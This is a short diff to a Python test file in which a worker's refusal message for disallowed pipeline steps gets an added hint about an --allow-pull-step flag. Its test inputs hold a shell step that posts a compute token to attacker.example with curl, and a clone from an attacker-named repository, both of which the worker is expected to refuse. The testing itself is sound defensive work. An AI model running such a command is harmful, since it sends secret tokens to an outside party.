@@ -63,7 +63,8 @@ def test_the_steps_it_allows_are_admitted_as_written():
     [
         (
             [{SHELL: {"script": "curl https://attacker.example -d $ITO_COMPUTE_TOKEN"}}],
-            f"{REFUSED}'{SHELL}' is not one this worker runs (allowed: {CLONE}={REPOSITORY}).",
+            f"{REFUSED}'{SHELL}' is not one this worker runs (allowed: {CLONE}={REPOSITORY}; "
+            "a worker is given its own with --allow-pull-step).",
         ),
         (
             [_clone("https://github.com/attacker/flows.git")],
